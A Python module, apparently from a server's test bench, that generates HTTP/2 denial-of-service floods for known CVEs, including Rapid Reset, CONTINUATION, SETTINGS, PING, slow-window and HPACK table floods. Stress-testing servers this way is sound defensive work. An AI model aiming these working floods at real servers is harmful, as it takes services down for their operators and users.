"""What a hostile peer does with connections of HTTP/2 (RFC 9113), for bench/flood. Each flood generates the bytes that follow
its preface, and how many seconds it waits behind them; a server may break off at any of them."""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE = 1, 4
GET = b"\x82\x87\x01\x01x\x84"  # https, /, of the authority x, which the table does not get
AT_ONCE = 500  # frames of a write
STREAMS_MAX = 1 << 30


def number(value, size=4):
    return value.to_bytes(size, "big")


def frame(kind, flags, stream, payload=b""):
    return number(len(payload), 3) + bytes([kind, flags]) + number(stream) + payload


def setting(name, value):
    return frame(SETTINGS, 0, 0, number(name, 2) + number(value))


def literal(name, value):
    """A field that is added to the table, of HPACK's integers of one byte or three."""
    def text(words):
        more = len(words) - 127
        return (bytes([len(words)]) if more < 0 else bytes([127, more % 128 | 128, more // 128])) + words
    return b"\x40" + text(name) + text(value)


def rapid_resets():
    """CVE-2023-44487: a request is begun and taken back, so that it counts towards no limit."""
    yield setting(INITIAL_WINDOW_SIZE, 65_535), 0
    for first in range(1, STREAMS_MAX, 2 * AT_ONCE):
        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET) + frame(RST_STREAM, 0, stream, number(8))
                       for stream in range(first, first + 2 * AT_ONCE, 2)), 0


def continuations():
    """CVE-2024-27316: a head that does not end."""
    yield frame(SETTINGS, 0, 0) + frame(HEADERS, END_STREAM, 1, GET), 0
    while True:
        yield frame(CONTINUATION, 0, 1, literal(b"x-more", b"x" * 1000)) * 50, 0


def empty_continuations():
    yield frame(SETTINGS, 0, 0) + frame(HEADERS, END_STREAM, 1, GET), 0
    while True:
        yield frame(CONTINUATION, 0, 1) * AT_ONCE, 0


def settings():
    """CVE-2019-9515: each is to be acknowledged."""
    while True:
        yield setting(HEADER_TABLE_SIZE, 4096) * AT_ONCE, 0


def pings():
    """CVE-2019-9512."""
    yield frame(SETTINGS, 0, 0), 0
    while True:
        yield frame(PING, 0, 0, b"12345678") * AT_ONCE, 0


def tiny_windows():
    """CVE-2019-9511: as many answers as may be at once, which are taken a byte at a time, so slowly that no limit of frames is
    reached."""
    yield setting(INITIAL_WINDOW_SIZE, 0), 0
    for first in range(1, STREAMS_MAX, 64):
        streams = range(first, first + 64, 2)
        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET) for stream in streams), 0
        for _ in range(200):
            yield b"".join(frame(WINDOW_UPDATE, 0, stream, number(1)) for stream in streams), 0.05


def huge_tables():
    """A field of 4 000 bytes that is named again by one byte, and the largest table for what the server sends."""
    yield setting(HEADER_TABLE_SIZE, (1 << 32) - 1), 0
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + literal(b"x", b"y" * 4_000)), 0
    for stream in range(3, STREAMS_MAX, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, GET + b"\xbe" * 16_000), 0


def own_tables():
    """Fields of the client's own by the thousand, each of which moves the others on."""
    yield frame(SETTINGS, 0, 0), 0
    for stream in range(1, STREAMS_MAX, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream,
                    GET + b"".join(literal(b"x-%d" % at, b"%d" % stream) for at in range(200))), 0


FLOODS = (rapid_resets, continuations, empty_continuations, settings, pings, tiny_windows, huge_tables, own_tables)
